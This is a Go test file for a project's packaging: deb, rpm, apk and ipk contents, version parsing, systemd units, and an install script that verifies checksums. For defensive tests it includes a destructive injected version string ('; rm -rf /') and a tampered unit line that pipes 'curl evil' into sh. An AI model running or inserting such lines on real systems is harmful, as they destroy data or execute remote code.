package packaging_test

import (
	"archive/tar"
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/tender-edge/tender/agent"
	"github.com/tender-edge/tender/agent/policy"
	"github.com/tender-edge/tender/packaging"
	"github.com/tender-edge/tender/packaging/internal/testbin"
)

var (
	src     string         // the source tree
	rel     string         // a release directory for this machine's arch
	arch    packaging.Arch // this machine's
	pkgs    []string       // every package of arch, built once
	version = packaging.Version{Base: "1.2.3", Stamp: "20261130120000", Hash: "abc1234"}
	mtime   = time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
)

func TestMain(m *testing.M) {
	os.Exit(run(m))
}

func run(m *testing.M) int {
	var err error
	if src, err = testbin.SrcDir(); err != nil {
		fmt.Println(err)
		return 1
	}
	tmp, err := os.MkdirTemp("", "tender-packaging-")
	if err != nil {
		fmt.Println(err)
		return 1
	}
	defer os.RemoveAll(tmp)
	rel = filepath.Join(tmp, "release")
	if err := os.Mkdir(rel, 0o755); err != nil {
		fmt.Println(err)
		return 1
	}
	if arch, err = testbin.Release(src, rel); err != nil {
		fmt.Println(err)
		return 1
	}
	pkgs, err = packaging.Build(packaging.Options{SrcDir: src, BinDir: rel, OutDir: filepath.Join(tmp, "pkgs"),
		Version: version, Time: mtime, Arches: []packaging.Arch{arch}})
	if err != nil {
		fmt.Println("build packages:", err)
		return 1
	}
	return m.Run()
}

// pkg is the one built package of prog whose name ends in ext.
func pkg(t *testing.T, prog, ext string) string {
	t.Helper()
	for _, p := range pkgs {
		b := filepath.Base(p)
		if strings.HasSuffix(b, ext) && (strings.HasPrefix(b, prog+"_") || strings.HasPrefix(b, prog+"-0") || strings.HasPrefix(b, prog+"-1")) {
			return p
		}
	}
	t.Fatalf("no %s package of %s among %v", ext, prog, pkgs)
	return ""
}

func need(t *testing.T, tool string) {
	t.Helper()
	if _, err := exec.LookPath(tool); err != nil {
		t.Skipf("%s not installed (make deps installs it)", tool)
	}
}

func cmdOut(t *testing.T, name string, args ...string) string {
	t.Helper()
	out, err := exec.Command(name, args...).CombinedOutput()
	if err != nil {
		t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
	}
	return string(out)
}

func TestParseVersion(t *testing.T) {
	at := time.Date(2026, 11, 30, 17, 52, 39, 0, time.FixedZone("CET", 3600))
	for _, c := range []struct{ in, deb, apk string }{
		{"v1.2.3", "1.2.3", "1.2.3"},
		{"1.2.3", "1.2.3", "1.2.3"},
		{"v1.2.3-dirty", "1.2.3+git20261130165239.dirty", "1.2.3_git20261130165239"},
		{"v1.2.3-4-gabc1234", "1.2.3+git20261130165239.abc1234", "1.2.3_git20261130165239"},
		{"v1.2.3-4-gabc1234-dirty", "1.2.3+git20261130165239.abc1234.dirty", "1.2.3_git20261130165239"},
		{"734b324", "0.0.0+git20261130165239.734b324", "0.0.0_git20261130165239"},
		{"734b324-dirty", "0.0.0+git20261130165239.734b324.dirty", "0.0.0_git20261130165239"},
		{"dev", "0.0.0+git20261130165239.dirty", "0.0.0_git20261130165239"},
	} {
		v, err := packaging.ParseVersion(c.in, at)
		if err != nil {
			t.Errorf("%q: %v", c.in, err)
			continue
		}
		if v.Deb() != c.deb || v.APK() != c.apk {
			t.Errorf("%q: deb %q apk %q, want %q and %q", c.in, v.Deb(), v.APK(), c.deb, c.apk)
		}
	}
	for _, bad := range []string{"", "v1.2", "release-1", "v1.2.3-4-gxyz", "1.2.3; rm -rf /"} {
		if _, err := packaging.ParseVersion(bad, at); err == nil {
			t.Errorf("%q: accepted", bad)
		}
	}
}

// Versions sort as releases do, by dpkg's and rpm's own comparisons: a
// tag, then the commits after it by time, then the next tag.
func TestVersionsOrder(t *testing.T) {
	need(t, "dpkg")
	at := func(s string) time.Time { tm, _ := time.Parse(time.RFC3339, s); return tm }
	seq := []packaging.Version{}
	for _, c := range []struct {
		describe string
		when     time.Time
	}{
		{"abc1234", at("2026-01-01T00:00:00Z")},
		{"fff0000", at("2026-01-02T00:00:00Z")},
		{"v0.1.0", at("2026-01-03T00:00:00Z")},
		{"v0.1.0-1-g0000001", at("2026-01-03T10:00:00Z")},
		{"v0.1.0-2-gfff0001", at("2026-01-03T11:00:00Z")},
		{"v0.2.0", at("2026-01-04T00:00:00Z")},
		{"v0.10.0", at("2026-01-05T00:00:00Z")},
	} {
		v, err := packaging.ParseVersion(c.describe, c.when)
		if err != nil {
			t.Fatal(err)
		}
		seq = append(seq, v)
	}
	hasRPM := exec.Command("rpm", "--version").Run() == nil
	for i := 1; i < len(seq); i++ {
		a, b := seq[i-1].Deb()+"-1", seq[i].Deb()+"-1"
		if err := exec.Command("dpkg", "--compare-versions", a, "lt", b).Run(); err != nil {
			t.Errorf("dpkg: %s is not before %s", a, b)
		}
		if hasRPM {
			out := cmdOut(t, "rpm", "--eval", fmt.Sprintf(`%%{lua: print(rpm.vercmp("%s", "%s"))}`, seq[i-1].Deb(), seq[i].Deb()))
			if strings.TrimSpace(out) != "-1" {
				t.Errorf("rpm: %s is not before %s (vercmp %s)", seq[i-1].Deb(), seq[i].Deb(), strings.TrimSpace(out))
			}
		}
	}
}

// debControl reads a .deb's control member.
func debControl(t *testing.T, deb, member string) string {
	t.Helper()
	dir := t.TempDir()
	cmdOut(t, "dpkg-deb", "-e", deb, dir)
	b, err := os.ReadFile(filepath.Join(dir, member))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestDeb(t *testing.T) {
	need(t, "dpkg-deb")
	deb := pkg(t, "tender-agent", ".deb")
	if got, want := filepath.Base(deb), "tender-agent_1.2.3+git20261130120000.abc1234-1_"+arch.Deb+".deb"; got != want {
		t.Errorf("file name %s, want %s", got, want)
	}
	for field, want := range map[string]string{"Package": "tender-agent", "Version": "1.2.3+git20261130120000.abc1234-1", "Architecture": arch.Deb} {
		if got := strings.TrimSpace(cmdOut(t, "dpkg-deb", "-f", deb, field)); got != want {
			t.Errorf("%s: %q, want %q", field, got, want)
		}
	}
	list := cmdOut(t, "dpkg-deb", "-c", deb)
	for _, want := range []string{
		"-rwxr-xr-x root/root .* ./usr/bin/tender-agent",
		"-rw------- root/root .* ./etc/tender/agent.yaml",
		"-rw-r--r-- root/root .* ./etc/tender/policy.yaml",
		"-rw-r--r-- root/root .* ./lib/systemd/system/tender-agent.service",
	} {
		if !matchLine(list, want) {
			t.Errorf("no %q in\n%s", want, list)
		}
	}
	if strings.Contains(list, "var/lib") {
		t.Errorf("the state directory is in the package (remove would take it):\n%s", list)
	}
	if got := debControl(t, deb, "conffiles"); got != "/etc/tender/agent.yaml\n/etc/tender/policy.yaml\n" {
		t.Errorf("conffiles:\n%s", got)
	}
	postrm := debControl(t, deb, "postrm")
	fn, err := packaging.PurgeState(src)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(postrm, fn) || strings.Contains(postrm, "#@PURGE_STATE@") {
		t.Errorf("postrm does not carry install.sh's purge_state:\n%s", postrm)
	}

	ctl := pkg(t, "tender", ".deb")
	list = cmdOut(t, "dpkg-deb", "-c", ctl)
	for _, want := range []string{"./usr/bin/tender$", "./lib/systemd/system/tender-controller.service$", "./etc/tender/controller.env$"} {
		if !matchLine(list, want) {
			t.Errorf("tender: no %q in\n%s", want, list)
		}
	}
	if got := debControl(t, ctl, "conffiles"); got != "/etc/tender/controller.env\n" {
		t.Errorf("tender conffiles:\n%s", got)
	}
}

// matchLine reports whether a line of list matches the regexp pattern.
func matchLine(list, pattern string) bool {
	return regexp.MustCompile("(?m)" + pattern).MatchString(list)
}

func TestRPM(t *testing.T) {
	need(t, "rpm")
	rpm := pkg(t, "tender-agent", ".rpm")
	info := cmdOut(t, "rpm", "-qip", rpm)
	for _, want := range []string{"Name        : tender-agent", "Version     : 1.2.3+git20261130120000.abc1234", "Release     : 1", "Architecture: " + arch.RPM} {
		if !strings.Contains(info, want) {
			t.Errorf("rpm -qip: no %q in\n%s", want, info)
		}
	}
	files := cmdOut(t, "rpm", "-qlp", rpm)
	for _, want := range []string{"/usr/bin/tender-agent", "/usr/lib/systemd/system/tender-agent.service", "/etc/tender/agent.yaml"} {
		if !strings.Contains(files, want+"\n") {
			t.Errorf("rpm -qlp: no %s in\n%s", want, files)
		}
	}
	if got := cmdOut(t, "rpm", "-qcp", rpm); got != "/etc/tender/agent.yaml\n/etc/tender/policy.yaml\n" {
		t.Errorf("rpm -qcp (config files):\n%s", got)
	}
	scripts := cmdOut(t, "rpm", "-qp", "--scripts", rpm)
	for _, want := range []string{"postinstall scriptlet", "preuninstall scriptlet", "postuninstall scriptlet", "systemctl try-restart tender-agent.service"} {
		if !strings.Contains(scripts, want) {
			t.Errorf("rpm --scripts: no %q", want)
		}
	}
	// %config(noreplace): a changed config survives an upgrade as it is.
	if got := cmdOut(t, "rpm", "-qp", "--qf", "[%{FILENAMES} %{FILEFLAGS:fflags}\n]", rpm); !strings.Contains(got, "/etc/tender/agent.yaml cn") {
		t.Errorf("agent.yaml is not %%config(noreplace):\n%s", got)
	}
	ctl := cmdOut(t, "rpm", "-qlp", pkg(t, "tender", ".rpm"))
	if !strings.Contains(ctl, "/usr/lib/systemd/system/tender-controller.service\n") {
		t.Errorf("tender rpm:\n%s", ctl)
	}
}

// member is one file of a tar stream.
type member struct {
	mode int64
	data []byte
}

// readTar reads a tar stream whole.
func readTar(t *testing.T, r io.Reader) map[string]member {
	t.Helper()
	m := map[string]member{}
	tr := tar.NewReader(r)
	for {
		h, err := tr.Next()
		if errors.Is(err, io.EOF) {
			return m
		}
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(tr)
		if err != nil {
			t.Fatal(err)
		}
		m[strings.TrimPrefix(h.Name, "./")] = member{mode: h.Mode, data: b}
	}
}

// An .apk (v2) is gzip streams one after the other: the signature (none
// here), the control tar with .PKGINFO and the scripts, the data tar.
func TestAPK(t *testing.T) {
	f, err := os.Open(pkg(t, "tender-agent", ".apk"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	br := bufio.NewReader(f)
	var segs []map[string]member
	for {
		zr, err := gzip.NewReader(br)
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		zr.Multistream(false)
		b, err := io.ReadAll(zr)
		if err != nil {
			t.Fatal(err)
		}
		segs = append(segs, readTar(t, bytes.NewReader(b)))
	}
	if len(segs) != 2 {
		t.Fatalf("%d gzip streams, want control and data", len(segs))
	}
	ctl, data := segs[0], segs[1]
	info := string(ctl[".PKGINFO"].data)
	for _, want := range []string{"pkgname = tender-agent\n", "pkgver = 1.2.3_git20261130120000-r0\n", "arch = " + arch.APK + "\n"} {
		if !strings.Contains(info, want) {
			t.Errorf(".PKGINFO: no %q in\n%s", want, info)
		}
	}
	for _, s := range []string{".post-install", ".pre-deinstall", ".post-upgrade"} {
		if _, ok := ctl[s]; !ok {
			t.Errorf("no %s script", s)
		}
	}
	for name, mode := range map[string]int64{"usr/bin/tender-agent": 0o755, "etc/init.d/tender-agent": 0o755, "etc/tender/agent.yaml": 0o600} {
		if m, ok := data[name]; !ok || m.mode&0o7777 != mode {
			t.Errorf("%s: mode %o present %v, want %o", name, m.mode, ok, mode)
		}
	}
	if got := sha(data["usr/bin/tender-agent"].data); got != shaFile(t, filepath.Join(rel, "tender-agent-linux-"+arch.Name)) {
		t.Errorf("the packaged binary is not the release's")
	}
}

// An OpenWrt .ipk is a tar.gz of debian-binary, control.tar.gz and
// data.tar.gz.
func TestIPK(t *testing.T) {
	ipk := pkg(t, "tender-agent", ".ipk")
	if got, want := filepath.Base(ipk), "tender-agent_1.2.3+git20261130120000.abc1234-1_"+arch.Deb+".ipk"; got != want {
		t.Errorf("file name %s, want %s", got, want)
	}
	outer := readTarGz(t, mustRead(t, ipk))
	if got := string(outer["debian-binary"].data); got != "2.0\n" {
		t.Errorf("debian-binary %q", got)
	}
	ctl := readTarGz(t, outer["control.tar.gz"].data)
	control := string(ctl["control"].data)
	for _, want := range []string{"Package: tender-agent\n", "Version: 1.2.3+git20261130120000.abc1234-1\n", "Architecture: all\n"} {
		if !strings.Contains(control, want) {
			t.Errorf("control: no %q in\n%s", want, control)
		}
	}
	if got := string(ctl["conffiles"].data); got != "/etc/config/tender-agent\n/etc/tender/agent.yaml\n/etc/tender/policy.yaml\n" {
		t.Errorf("conffiles:\n%s", got)
	}
	pre := string(ctl["preinst"].data)
	if !strings.Contains(pre, `want="`+strings.Join(arch.UnameM, " ")+`"`) {
		t.Errorf("preinst does not name %v:\n%s", arch.UnameM, pre)
	}
	data := readTarGz(t, outer["data.tar.gz"].data)
	for name, mode := range map[string]int64{"usr/bin/tender-agent": 0o755, "etc/init.d/tender-agent": 0o755, "etc/config/tender-agent": 0o644, "etc/tender/agent.yaml": 0o600} {
		if m, ok := data[name]; !ok || m.mode&0o7777 != mode {
			t.Errorf("%s: mode %o present %v, want %o", name, m.mode, ok, mode)
		}
	}
	for _, p := range pkgs {
		if strings.HasPrefix(filepath.Base(p), "tender_") && strings.HasSuffix(p, ".ipk") {
			t.Errorf("a controller .ipk was built: %s", p)
		}
	}
}

func mustRead(t *testing.T, path string) []byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func readTarGz(t *testing.T, b []byte) map[string]member {
	t.Helper()
	zr, err := gzip.NewReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	return readTar(t, zr)
}

func sha(b []byte) string { s := sha256.Sum256(b); return hex.EncodeToString(s[:]) }

func shaFile(t *testing.T, path string) string { t.Helper(); return sha(mustRead(t, path)) }

// The shipped configs are ones the agent accepts: the packaged agent.yaml
// loads, and policy.yaml parses.
func TestShippedConfigs(t *testing.T) {
	if _, err := agent.LoadConfig(filepath.Join(src, "packaging/etc/agent.yaml")); err != nil {
		t.Errorf("packaging/etc/agent.yaml: %v", err)
	}
	if _, err := policy.Parse(mustRead(t, filepath.Join(src, "configs/policy.yaml")), "configs/policy.yaml"); err != nil {
		t.Errorf("configs/policy.yaml: %v", err)
	}
}

// systemd-analyze verify accepts both units without a word, with the
// ExecStart binaries pointed at this test's.
func TestUnitsVerify(t *testing.T) {
	need(t, "systemd-analyze")
	dir := t.TempDir()
	for unit, prog := range map[string]string{"tender-agent.service": "tender-agent", "tender-controller.service": "tender"} {
		b := mustRead(t, filepath.Join(src, "packaging/systemd", unit))
		b = bytes.ReplaceAll(b, []byte("/usr/bin/"+prog+" "), []byte(filepath.Join(rel, prog+"-linux-"+arch.Name)+" "))
		path := filepath.Join(dir, unit)
		if err := os.WriteFile(path, b, 0o644); err != nil {
			t.Fatal(err)
		}
		out, err := exec.Command("systemd-analyze", "verify", path).CombinedOutput()
		if err != nil || strings.Contains(string(out), unit) {
			t.Errorf("systemd-analyze verify %s: %v\n%s", unit, err, out)
		}
	}
	for unit, want := range map[string][]string{
		"tender-agent.service":      {"Type=notify", "WatchdogSec=", "KillMode=process", "Restart=always", "StateDirectory=tender"},
		"tender-controller.service": {"DynamicUser=yes", "ProtectSystem=strict", "NoNewPrivileges=yes", "CapabilityBoundingSet=\n", "StateDirectory=tender-controller", "--data /var/lib/tender-controller"},
	} {
		b := string(mustRead(t, filepath.Join(src, "packaging/systemd", unit)))
		for _, w := range want {
			if !strings.Contains(b, "\n"+w) && !strings.Contains(b, w) {
				t.Errorf("%s: no %q", unit, w)
			}
		}
		if unit == "tender-agent.service" && strings.Contains(b, "\nProtectSystem=") {
			t.Errorf("%s: ProtectSystem is set", unit)
		}
	}
}

// Every shell script shipped is shellcheck-clean, as installed: the
// maintainer scripts as the packages carry them.
func TestShellcheck(t *testing.T) {
	need(t, "shellcheck")
	scripts, _ := filepath.Glob(filepath.Join(src, "packaging/scripts/*/*"))
	scripts = append(scripts, filepath.Join(src, "packaging/install.sh"), filepath.Join(src, "packaging/openwrt/tender-agent.init"),
		filepath.Join(src, "packaging/openrc/tender-agent.initd"))
	dir := t.TempDir()
	deb := pkg(t, "tender-agent", ".deb")
	cmdOut(t, "dpkg-deb", "-e", deb, dir)
	scripts = append(scripts, filepath.Join(dir, "postrm"))
	ipkCtl := readTarGz(t, readTarGz(t, mustRead(t, pkg(t, "tender-agent", ".ipk")))["control.tar.gz"].data)
	pre := filepath.Join(dir, "ipk-preinst")
	if err := os.WriteFile(pre, ipkCtl["preinst"].data, 0o755); err != nil {
		t.Fatal(err)
	}
	scripts = append(scripts, pre)
	sort.Strings(scripts)
	out, err := exec.Command("shellcheck", append([]string{"-s", "sh"}, scripts...)...).CombinedOutput()
	if err != nil {
		t.Errorf("shellcheck: %v\n%s", err, out)
	}
}

// releaseDir makes a release directory as `make release` does, for this
// machine's architecture, with SHA256SUMS; tamper, if given, changes a
// file after the sums are made.
func releaseDir(t *testing.T, tamper func(dir string)) string {
	t.Helper()
	dir := t.TempDir()
	files := map[string]string{
		"tender-agent-linux-" + arch.Name: filepath.Join(rel, "tender-agent-linux-"+arch.Name),
		"install.sh":                      filepath.Join(src, "packaging/install.sh"),
		"tender-agent.service":            filepath.Join(src, "packaging/systemd/tender-agent.service"),
		"tender-agent.init":               filepath.Join(src, "packaging/openwrt/tender-agent.init"),
		"tender-agent.uci":                filepath.Join(src, "packaging/openwrt/tender-agent.uci"),
		"agent.yaml":                      filepath.Join(src, "packaging/etc/agent.yaml"),
		"policy.yaml":                     filepath.Join(src, "configs/policy.yaml"),
	}
	var sums strings.Builder
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		b := mustRead(t, files[n])
		if err := os.WriteFile(filepath.Join(dir, n), b, 0o755); err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(&sums, "%s  %s\n", sha(b), n)
	}
	if err := os.WriteFile(filepath.Join(dir, "SHA256SUMS"), []byte(sums.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	if tamper != nil {
		tamper(dir)
	}
	return dir
}

// install runs the release's install.sh into root and returns its output
// and exit code.
func install(t *testing.T, dir, root string, args ...string) (string, int) {
	t.Helper()
	cmd := exec.Command("sh", append([]string{filepath.Join(dir, "install.sh"), "--root", root, "--arch", arch.Name}, args...)...)
	out, err := cmd.CombinedOutput()
	var ee *exec.ExitError
	switch {
	case errors.As(err, &ee):
		return string(out), ee.ExitCode()
	case err != nil:
		t.Fatal(err)
	}
	return string(out), 0
}

func mode(t *testing.T, path string) os.FileMode {
	t.Helper()
	fi, err := os.Lstat(path)
	if err != nil {
		t.Fatal(err)
	}
	return fi.Mode()
}

func exists(path string) bool { _, err := os.Lstat(path); return err == nil }

func TestInstallScript_Systemd(t *testing.T) {
	dir := releaseDir(t, nil)
	root := t.TempDir()
	out, code := install(t, dir, root, "--init", "systemd")
	if code != 0 {
		t.Fatalf("install: exit %d\n%s", code, out)
	}
	bin := filepath.Join(root, "usr/local/bin/tender-agent")
	if shaFile(t, bin) != shaFile(t, filepath.Join(dir, "tender-agent-linux-"+arch.Name)) || mode(t, bin).Perm() != 0o755 {
		t.Errorf("%s: not the release's binary, or mode %v", bin, mode(t, bin))
	}
	for p, want := range map[string]os.FileMode{"etc/tender": os.ModeDir | 0o755, "etc/tender/agent.yaml": 0o600, "etc/tender/policy.yaml": 0o644, "etc/systemd/system/tender-agent.service": 0o644} {
		if got := mode(t, filepath.Join(root, p)); got != want {
			t.Errorf("%s: mode %v, want %v", p, got, want)
		}
	}
	unit := string(mustRead(t, filepath.Join(root, "etc/systemd/system/tender-agent.service")))
	if !strings.Contains(unit, "\nExecStart=/usr/local/bin/tender-agent daemon --config /etc/tender/agent.yaml\n") {
		t.Errorf("unit's ExecStart does not run the installed binary:\n%s", unit)
	}
	if _, err := exec.LookPath("systemctl"); err == nil {
		if link := filepath.Join(root, "etc/systemd/system/multi-user.target.wants/tender-agent.service"); !exists(link) {
			t.Errorf("not enabled: no %s\n%s", link, out)
		}
	}

	// An upgrade keeps the admin's config.
	conf := filepath.Join(root, "etc/tender/agent.yaml")
	if err := os.WriteFile(conf, []byte("deviceId: mine\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if out, code := install(t, dir, root, "--init", "systemd"); code != 0 || !strings.Contains(out, "kept "+conf) {
		t.Fatalf("reinstall: exit %d\n%s", code, out)
	}
	if got := string(mustRead(t, conf)); got != "deviceId: mine\n" {
		t.Errorf("reinstall replaced the config: %q", got)
	}

	// Uninstall keeps configs and state; purge removes them but the volumes.
	state := filepath.Join(root, "var/lib/tender")
	for p, data := range map[string]string{"agent.db": "db", "volumes/web/data/keep.txt": "precious", "containers/0123abcd/state.json": "{\n  \"status\": \"exited\",\n  \"exitCode\": 0\n}", "images/index": "x"} {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(state, p)), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(state, p), []byte(data), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if out, code := install(t, dir, root, "--init", "systemd", "--uninstall"); code != 0 {
		t.Fatalf("uninstall: exit %d\n%s", code, out)
	}
	for _, gone := range []string{"usr/local/bin/tender-agent", "etc/systemd/system/tender-agent.service", "etc/systemd/system/multi-user.target.wants/tender-agent.service"} {
		if exists(filepath.Join(root, gone)) {
			t.Errorf("uninstall left %s", gone)
		}
	}
	for _, kept := range []string{"etc/tender/agent.yaml", "var/lib/tender/agent.db"} {
		if !exists(filepath.Join(root, kept)) {
			t.Errorf("uninstall removed %s", kept)
		}
	}
	out, code = install(t, dir, root, "--init", "systemd", "--uninstall", "--purge")
	if code != 0 {
		t.Fatalf("purge: exit %d\n%s", code, out)
	}
	if !strings.Contains(out, "kept "+state+"/volumes") {
		t.Errorf("purge does not say it kept the volumes:\n%s", out)
	}
	var left []string
	_ = filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
		if err == nil && !fi.IsDir() {
			left = append(left, strings.TrimPrefix(p, root+"/"))
		}
		return nil
	})
	if strings.Join(left, " ") != "var/lib/tender/volumes/web/data/keep.txt" {
		t.Errorf("after purge, files left: %v (want only the volume's)", left)
	}
}

func TestInstallScript_Procd(t *testing.T) {
	dir := releaseDir(t, nil)
	root := t.TempDir()
	out, code := install(t, dir, root, "--init", "procd")
	if code != 0 {
		t.Fatalf("install: exit %d\n%s", code, out)
	}
	initd := string(mustRead(t, filepath.Join(root, "etc/init.d/tender-agent")))
	if !strings.Contains(initd, "\nPROG=/usr/bin/tender-agent\n") || mode(t, filepath.Join(root, "etc/init.d/tender-agent")).Perm() != 0o755 {
		t.Errorf("init script:\n%s", initd)
	}
	for _, p := range []string{"usr/bin/tender-agent", "etc/config/tender-agent", "etc/tender/policy.yaml"} {
		if !exists(filepath.Join(root, p)) {
			t.Errorf("no %s", p)
		}
	}
	if l, err := os.Readlink(filepath.Join(root, "etc/rc.d/S99tender-agent")); err != nil || l != "../init.d/tender-agent" {
		t.Errorf("not enabled: S99tender-agent -> %q (%v)", l, err)
	}
}

// A file that does not match SHA256SUMS, or is not in it, stops the
// install before anything is written.
func TestInstallScript_Checksums(t *testing.T) {
	bin := "tender-agent-linux-" + arch.Name
	for name, c := range map[string]struct {
		tamper func(dir string)
		want   string
	}{
		"tampered binary": {func(dir string) {
			p := filepath.Join(dir, bin)
			b := mustRead(t, p)
			b[len(b)/2] ^= 1
			if err := os.WriteFile(p, b, 0o755); err != nil {
				t.Fatal(err)
			}
		}, bin + ": checksum mismatch"},
		"tampered unit": {func(dir string) {
			f, err := os.OpenFile(filepath.Join(dir, "tender-agent.service"), os.O_APPEND|os.O_WRONLY, 0)
			if err != nil {
				t.Fatal(err)
			}
			fmt.Fprintln(f, "ExecStartPre=/bin/sh -c 'curl evil | sh'")
			f.Close()
		}, "tender-agent.service: checksum mismatch"},
		"unlisted binary": {func(dir string) {
			p := filepath.Join(dir, "SHA256SUMS")
			var keep []string
			for _, l := range strings.Split(string(mustRead(t, p)), "\n") {
				if !strings.HasSuffix(l, "  "+bin) {
					keep = append(keep, l)
				}
			}
			if err := os.WriteFile(p, []byte(strings.Join(keep, "\n")), 0o644); err != nil {
				t.Fatal(err)
			}
		}, bin + ": not listed in"},
		"no SHA256SUMS": {func(dir string) {
			if err := os.Remove(filepath.Join(dir, "SHA256SUMS")); err != nil {
				t.Fatal(err)
			}
		}, "SHA256SUMS: missing"},
	} {
		t.Run(name, func(t *testing.T) {
			dir := releaseDir(t, c.tamper)
			root := t.TempDir()
			out, code := install(t, dir, root, "--init", "systemd")
			if code != 1 || !strings.Contains(out, c.want) {
				t.Errorf("exit %d, want 1 with %q:\n%s", code, c.want, out)
			}
			if ents, _ := os.ReadDir(root); len(ents) != 0 {
				t.Errorf("something was installed: %v", ents)
			}
		})
	}
	// The good release installs (the same checks pass).
	if out, code := install(t, releaseDir(t, nil), t.TempDir(), "--init", "none"); code != 0 || !strings.Contains(out, "no systemd or procd here") {
		t.Errorf("good release: exit %d\n%s", code, out)
	}
}
